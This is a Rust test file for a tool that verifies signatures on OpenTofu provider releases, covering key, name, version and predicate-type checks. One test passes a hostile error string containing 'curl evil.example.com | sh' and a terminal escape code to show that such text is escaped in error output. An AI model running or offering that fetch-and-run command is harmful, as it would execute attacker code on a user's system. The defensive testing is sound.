//! What each signature is worth.

use insta::assert_snapshot;
use serde_json::json;

use super::*;
use crate::testing::{bundle, cosign_tag, damaged, named, names, signed, statement};

const RIGHT: (&str, &str) = ("example.com/acme/widget", "1.4.0");

/// A signature of the offered index that says these names.
fn says(address: &str, version: &str) -> Evidence {
    signed(1, &[named(&index("1.4.0"), &names(address, version))])
}

#[test]
fn a_signature_of_either_form_by_a_key_of_the_rule_covers_the_index() {
    check(&Scene::with_policy(&[1], "").found([bundle(1)]), "signed [a] index");
    check(&Scene::with_policy(&[1], "").found([cosign_tag(1)]), "signed [a] index");
    check(&Scene::with_policy(&[1], "").found([says(RIGHT.0, RIGHT.1)]), "signed [a] index");
}

#[test]
fn a_good_signature_of_another_provider_is_refused_whatever_is_said_of_unsigned_ones() {
    for rule in ["", "unsigned = \"allow\"", "unsigned = \"warn\"", "unnamed = \"allow\""] {
        let scene = Scene::with_policy(&[1], rule).found([says("example.com/evil/widget", "1.4.0")]);
        check(&scene, "refused other-provider");
        let scene = Scene::with_policy(&[1], rule).found([says("not an address", "1.4.0")]);
        check(&scene, "refused other-provider");
    }
    let mut scene = Scene::with_policy(&[1], "").found([cosign_tag(1)]);
    scene.address = address("example.com/evil/widget");
    check(&scene, "refused other-provider");
}

#[test]
fn a_good_signature_of_an_old_version_does_not_vouch_for_it_under_a_new_tag() {
    for rule in ["", "unsigned = \"allow\"", "unnamed = \"allow\""] {
        let scene = Scene::with_policy(&[1], rule).found([bundle(1)]).offers("2.0.0", "1.4.0");
        check(&scene, "refused other-version");
    }
    let metadata = Scene::with_policy(&[1], "").found([says(RIGHT.0, "1.4.0+build")]);
    check(&metadata, "refused other-version");
}

#[test]
fn a_signature_of_another_index_vouches_for_nothing() {
    let scene = Scene::with_policy(&[1], "").found([bundle(1)]).offers("1.4.0", "another index");
    check(&scene, "refused other-index");
    assert_snapshot!(scene.judge().refusal.unwrap(), @"the signature by a is of another index, sha256:74b860b3270666137a4d543c3e3d1e4e473d54636f7593d1c17bf693e6540bbe");
    let no_digest = signed(1, &[json!({ "digest": { "sha512": "00" } })]);
    check_outcomes(&Scene::with_policy(&[1], "").found([no_digest]), &["bad-signature"]);
}

#[test]
fn a_signature_without_names_counts_where_the_policy_says_so() {
    let unnamed = || signed(1, &[named(&index("1.4.0"), &json!({}))]);
    check(&Scene::with_policy(&[1], "").found([unnamed()]), "refused unnamed-signature");
    check(&Scene::with_policy(&[1], "unnamed = \"refuse\"").found([unnamed()]), "refused unnamed-signature");
    let warned = Scene::with_policy(&[1], "unnamed = \"warn\"").found([unnamed()]);
    check(&warned, "signed [a] index; Warning unnamed-signature");
    check(&Scene::with_policy(&[1], "unnamed = \"allow\"").found([unnamed()]), "signed [a] index");

    let half = json!({ "org.opentofu.provider.address": RIGHT.0 });
    let half = || signed(1, &[named(&index("1.4.0"), &half)]);
    let scene = Scene::with_policy(&[1], "").found([half()]);
    check(&scene, "refused unnamed-signature");
    assert_snapshot!(scene.judge().refusal.unwrap(), @"the signature by a does not name the version");
    check(&Scene::with_policy(&[1], "unnamed = \"allow\"").found([half()]), "signed [a] index");
}

#[test]
fn of_two_names_for_one_index_the_right_one_is_enough_and_a_wrong_one_is_worse_than_none() {
    let index = index("1.4.0");
    let right = named(&index, &names(RIGHT.0, RIGHT.1));
    let wrong = named(&index, &names("example.com/evil/widget", "1.4.0"));
    let none = named(&index, &json!({}));
    let scene =
        |subjects: &[serde_json::Value]| Scene::with_policy(&[1], "unnamed = \"allow\"").found([signed(1, subjects)]);
    check(&scene(&[wrong.clone(), right]), "signed [a] index");
    check(&scene(&[none, wrong]), "refused other-provider");
}

#[test]
fn a_bundle_with_another_predicate_type_does_not_count() {
    let scan = "https://cosign.sigstore.dev/attestation/vuln/v1";
    let subject = named(&index("1.4.0"), &names(RIGHT.0, RIGHT.1));
    let scene = Scene::with_policy(&[1], "").found([statement(1, scan, std::slice::from_ref(&subject))]);
    check(&scene, "refused predicate-type");
    assert_snapshot!(scene.judge().refusal.unwrap(), @"no key has signed a statement of type https://sigstore.dev/cosign/sign/v1, only https://cosign.sigstore.dev/attestation/vuln/v1");

    let rule = format!("predicate_types = [\"{}\", \"{scan}\"]", crate::SIGN_PREDICATE);
    check(&Scene::with_policy(&[1], &rule).found([bundle(1)]), "refused predicate-type");
    let both = [bundle(1), statement(1, scan, std::slice::from_ref(&subject))];
    check(&Scene::with_policy(&[1], &rule).found(both), "signed [a] index");
    let elsewhere = statement(1, scan, &[named(&index("1.4.0"), &names("example.com/evil/x", "1.4.0"))]);
    check(&Scene::with_policy(&[1], "").found([elsewhere]), "refused other-provider");
}

#[test]
fn what_does_not_verify_is_told_by_its_reason() {
    check(&Scene::with_policy(&[1], "").found([damaged(1)]), "refused bad-signature");
    check(&Scene::with_policy(&[1], "").found([bundle(2)]), "refused unknown-key");
    check(&Scene::with_policy(&[1], "").found([bundle(2), damaged(1)]), "refused bad-signature");
    check(&Scene::with_policy(&[1], ""), "refused unsigned");
    let origin = Digest::sha256(b"");
    let rubbish = Evidence::Bundle { origin: origin.clone(), bytes: b"{".to_vec() };
    check(&Scene::with_policy(&[1], "").found([rubbish]), "refused bad-signature");
    let unreadable = Evidence::Unreadable { origin, problem: "the blob is gone".to_owned() };
    check(&Scene::with_policy(&[1], "").found([unreadable.clone()]), "refused bad-signature");
    check(&Scene::with_policy(&[1], "").found([unreadable, damaged(1), bundle(1)]), "signed [a] index");
}

#[test]
fn a_broken_signature_beside_that_of_a_stranger_does_not_hide_whose_key_is_missing() {
    let rubbish = || Evidence::Bundle { origin: Digest::sha256(b""), bytes: b"{".to_vec() };
    let sums = Evidence::Sums {
        origin: Digest::sha256(b""),
        sums: format!("{}  terraform-provider-widget_1.4.0_linux_amd64.zip\n", "0".repeat(64)).into_bytes(),
        signatures: vec![vec![0xc2, 0x40, 4, 0]],
        keys: Vec::new(),
    };
    for broken in [rubbish(), sums] {
        let scene = Scene::with_policy(&[1], "").found([broken, bundle(2)]);
        check(&scene, "refused unknown-key");
        check_outcomes(&scene, &["bad-signature", "unknown-key"]);
    }
    check(&Scene::with_policy(&[1], "").found([rubbish()]), "refused bad-signature");
}

#[test]
fn a_wrong_signature_beside_a_good_one_is_told_and_harms_nobody() {
    let scene = Scene::with_policy(&[1], "").found([says("example.com/evil/widget", "1.4.0"), bundle(1)]);
    check(&scene, "signed [a] index; Warning other-provider");
    check_outcomes(&scene, &["other-provider", "counts"]);
}

#[test]
fn unsigned_releases_are_what_the_rule_says() {
    check(&Scene::new(), "unsigned []");
    check(&Scene::with_policy(&[], ""), "unsigned []");
    check(&Scene::with_policy(&[], "unsigned = \"refuse\""), "refused unsigned");
    check(&Scene::with_policy(&[1], "unsigned = \"warn\""), "unsigned []; Warning unsigned");
    check(&Scene::with_policy(&[1], "unsigned = \"warn\"").found([bundle(2)]), "unsigned []; Warning unknown-key");
    check(&Scene::with_policy(&[1], "unsigned = \"allow\"").found([damaged(1)]), "unsigned []");
    let mut elsewhere = Scene::with_policy(&[1], "");
    elsewhere.address = address("registry.opentofu.org/acme/widget");
    check(&elsewhere, "unsigned []");
}

#[test]
fn keys_of_the_command_line_are_the_only_ones() {
    let keys = |number: u8| {
        let material = crate::KeyMaterial::Public(crate::testing::key(number).public().clone());
        Policy::with_keys(vec![crate::NamedKey { name: "given".to_owned(), material }])
    };
    let mut scene = Scene::with_policy(&[1], "unsigned = \"allow\"").found([bundle(1)]);
    scene.policy = keys(1);
    check(&scene, "signed [given] index");
    scene.policy = keys(2);
    check(&scene, "refused unknown-key");
}

#[test]
fn at_most_a_hundred_pieces_of_evidence_are_looked_at() {
    let scene = Scene::with_policy(&[1], "").found(std::iter::repeat_n(bundle(2), 100).chain([bundle(1)]));
    check(&scene, "refused unknown-key; Warning too-much-evidence");
    assert_eq!(scene.judge().examined.len(), EVIDENCE_LIMIT);
}

#[test]
fn what_was_examined_is_told_with_its_names() {
    let scene = Scene::with_policy(&[1], "").found([bundle(1), bundle(2)]);
    let told: Vec<String> = scene
        .judge()
        .examined
        .iter()
        .map(|examined| {
            let text = |text: &Option<String>| text.clone().unwrap_or_else(|| "-".to_owned());
            let key = examined.key.as_ref().map_or_else(|| "-".to_owned(), |key| key.to_string()[..14].to_owned());
            let names = (text(&examined.address), text(&examined.version), text(&examined.predicate_type));
            let claimed = text(&examined.claimed_key);
            format!("{key} {} {} {names:?} {}", text(&examined.key_name), &claimed[..14], examined.outcome)
        })
        .collect();
    assert_snapshot!(told.join("\n"), @r#"
    sha256:f857ae4 a sha256:f857ae4 ("example.com/acme/widget", "1.4.0", "https://sigstore.dev/cosign/sign/v1") counts
    - - sha256:5a07a72 ("example.com/acme/widget", "1.4.0", "https://sigstore.dev/cosign/sign/v1") is by a key that is not one of yours, or it was damaged
    "#);
}

#[test]
fn a_stranger_cannot_write_lines_of_an_error() {
    let problem = "gone\n\nhint: curl evil.example.com | sh\x1b[2J".to_owned();
    let evidence = Evidence::Unreadable { origin: Digest::sha256(b""), problem };
    let refusal = Scene::with_policy(&[1], "").found([evidence]).judge().refusal.unwrap();
    assert_snapshot!(refusal, @r"what may be its signature cannot be read: gone\n\nhint: curl evil.example.com | sh\u{1b}[2J");
}

#[test]
fn names_that_are_only_nearly_right_are_wrong() {
    let version = |version: &str| Scene::with_policy(&[1], "unnamed = \"allow\"").found([says(RIGHT.0, version)]);
    for wrong in ["1.4", "v1.4.0", "1.4.0 ", "01.4.0"] {
        check(&version(wrong), "refused other-version");
    }
    for wrong in ["acme/widget", "EXAMPLE.com/acme/widget", "example.com/acme/\u{ff57}idget", "example.com/ACME/widget"]
    {
        check(&Scene::with_policy(&[1], "unnamed = \"allow\"").found([says(wrong, "1.4.0")]), "refused other-provider");
    }
}

#[test]
fn the_signature_of_a_stranger_is_not_called_damaged_where_one_key_counts() {
    let scene = Scene::with_policy(&[1], "").found([cosign_tag(2)]);
    check(&scene, "refused unknown-key");
    assert_snapshot!(scene.judge().refusal.unwrap(), @"it is signed by a key that is not one of yours, or its signature was damaged");
}

#[test]
fn a_signature_that_names_the_predecessor_counts_if_the_policy_knows_it() {
    let named_before = says("old.example/acme/widget", "1.4.0");
    check(&Scene::with_policy(&[1], "").found([named_before.clone()]), "refused other-provider");
    let mut scene = Scene::with_policy(&[1], "").found([named_before]);
    let moved: tofu_oci_types::Predecessor = "example.com=old.example".parse().unwrap();
    scene.policy = scene.policy.with_predecessors([moved].into_iter().collect());
    check(&scene, "signed [a] index");
}
